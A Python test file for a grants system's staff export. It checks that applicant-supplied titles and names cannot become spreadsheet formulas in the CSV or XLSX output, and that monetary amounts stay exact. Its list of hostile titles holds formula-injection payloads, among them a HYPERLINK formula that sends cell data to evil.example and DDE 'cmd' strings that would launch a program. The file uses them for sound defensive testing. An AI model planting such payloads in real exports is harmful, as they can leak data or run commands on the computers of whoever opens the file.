"""Text that applicants and organisations choose never becomes a formula in the staff export."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from grants import accounts
from grants.applications import create_application
from grants.models import Application, Award, Role
from grants.submission import submit_application
from tests import factories
from tests.factories import NOW, PUBLIC_URL, application_values

CSV = "/exports/applications.csv"
XLSX = "/exports/applications.xlsx"
#: Titles starting with every character a spreadsheet may read as the start of a formula.
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "+41 61 000 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",
    "−1+1",
]
#: Titles that are harmless but that a naive writer would still turn into something other than text.
PLAIN_TITLES = ["#REF!", "Kurs \x07 mit Glocke", "Sprachtreff 2026"]
APPLICANT = '@Verein "Zukunft"; =1+1'
MUNICIPALITY = "=Gemeinde"
HUGE = Decimal("549755814887.94")  # above 2**39: openpyxl writing it through float gives ...887.9399


async def hostile_applications(titles: list[str]) -> dict[str, str]:
    """Submitted applications with these titles as stored, a reviewer r@example.org; reference -> title."""
    await factories.organisation("verein-z", name=APPLICANT)
    await factories.organisation("boese-gemeinde", kind="MUNICIPALITY", name=MUNICIPALITY)
    applicant = await factories.user(Role.APPLICANT, email="z@example.org", organisation="verein-z")
    await factories.user(Role.REVIEWER, email="r@example.org")
    funding_call = await factories.call()
    stored = {}
    for title in titles:
        values = application_values(funding_call, title=title, municipalities=["pratteln", "boese-gemeinde"])
        draft = await create_application(actor=applicant, values=values, now=NOW)
        await submit_application(
            actor=applicant, application_id=draft.id, message=None, now=NOW, public_url=PUBLIC_URL
        )
        # The form strips leading white space; the rows hold it anyway (older data, other writers).
        await Application.filter(id=draft.id).update(title=title)
        stored[draft.reference] = title
    return stored


async def login_token(settings, email: str) -> str:
    token, _ = await accounts.login(email=email, password=factories.PASSWORD, secret=settings.secret_key)
    return token


def neutralised(text: str) -> str:
    return "'" + text


async def test_csv_cells_never_start_a_formula(seeded_db, client, settings):
    # given: applications whose titles, applicant and municipality start with formula characters
    stored = await hostile_applications(HOSTILE_TITLES + PLAIN_TITLES)
    token = await login_token(settings, "r@example.org")
    # when: a reviewer exports them as CSV
    response = await client.get(CSV, headers={"Authorization": f"Bearer {token}"})
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    # then: each dangerous text starts with a single quote, the rest is unchanged, the CSV still parses
    assert response.status_code == 200
    header, body = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert len(header) == 17
    assert {row["reference"]: row["title"] for row in body} == {
        reference: neutralised(title) if title in HOSTILE_TITLES else title
        for reference, title in stored.items()
    }
    assert {row["applicant"] for row in body} == {neutralised(APPLICANT)}
    assert {row["municipalities"] for row in body} == {neutralised(f"{MUNICIPALITY}; Pratteln")}
    # and: no cell of the file starts a formula unless it is a number written by kipnet
    for row in rows:
        for cell in row:
            assert cell[:1] not in set("=+-@\t\r\n＝＋－＠") or Decimal(cell) < 0


async def test_spreadsheet_cells_are_never_formulas(seeded_db, client, settings):
    # given: the same hostile applications
    stored = await hostile_applications(HOSTILE_TITLES + PLAIN_TITLES)
    token = await login_token(settings, "r@example.org")
    # when: a reviewer exports them as XLSX and opens the file with openpyxl
    response = await client.get(XLSX, headers={"Authorization": f"Bearer {token}"})
    sheet = load_workbook(io.BytesIO(response.content))["Gesuche"]
    rows = list(sheet.iter_rows())
    # then: no cell is a formula (or an error value); each text shows as text, neutralised
    assert {cell.data_type for row in rows for cell in row} == {"s", "n", "d"}
    titles = {row[0].value: row[1] for row in rows[1:]}
    assert {reference: cell.data_type for reference, cell in titles.items()} == dict.fromkeys(stored, "s")
    expected = {
        reference: neutralised(title) if title in HOSTILE_TITLES else title
        for reference, title in stored.items()
    }
    # XML keeps no bare CR (a reader turns it into LF) and cannot hold BEL: both shown otherwise
    expected = {ref: title.replace("\r", "\n").replace("\x07", "\ufffd") for ref, title in expected.items()}
    assert {reference: cell.value for reference, cell in titles.items()} == expected
    assert {(row[2].data_type, row[2].value) for row in rows[1:]} == {("s", neutralised(APPLICANT))}
    assert {row[8].value for row in rows[1:]} == {neutralised(f"{MUNICIPALITY}; Pratteln")}


async def test_numbers_stay_exact_numbers_even_huge_or_negative(seeded_db, client, settings):
    # given: an application whose amounts sit at the edges: near 10^12 and (written past the domain) negative
    stored = await hostile_applications(["Grosses Projekt"])
    (reference,) = stored
    application = await Application.get(reference=reference)
    await Application.filter(id=application.id).update(
        requested_amount=HUGE, third_party_funding=Decimal("-0.01")
    )
    await Award.create(application=application, amount=Decimal("999999999999.99"), decided_at=NOW)
    token = await login_token(settings, "r@example.org")
    # when: both formats are exported
    csv_text = (await client.get(CSV, headers={"Authorization": f"Bearer {token}"})).text
    content = (await client.get(XLSX, headers={"Authorization": f"Bearer {token}"})).content
    # then: CSV writes the exact amounts as bare numbers, the minus sign unescaped
    assert ",-0.01,549755814887.94,999999999999.99," in csv_text
    # and: the XLSX holds the exact decimal literals as number cells, which openpyxl reads back exactly
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    for literal in ("-0.01", "549755814887.94", "999999999999.99"):
        assert f't="n"><v>{literal}</v></c>' in xml
    sheet = load_workbook(io.BytesIO(content))["Gesuche"]
    cells = dict(zip([cell.value for cell in sheet[1]], sheet[2], strict=True))
    read = {
        name: (cells[name].data_type, Decimal(repr(cells[name].value)))
        for name in ("third_party_funding", "requested_amount", "awarded")
    }
    assert read == {
        "third_party_funding": ("n", Decimal("-0.01")),
        "requested_amount": ("n", HUGE),
        "awarded": ("n", Decimal("999999999999.99")),
    }
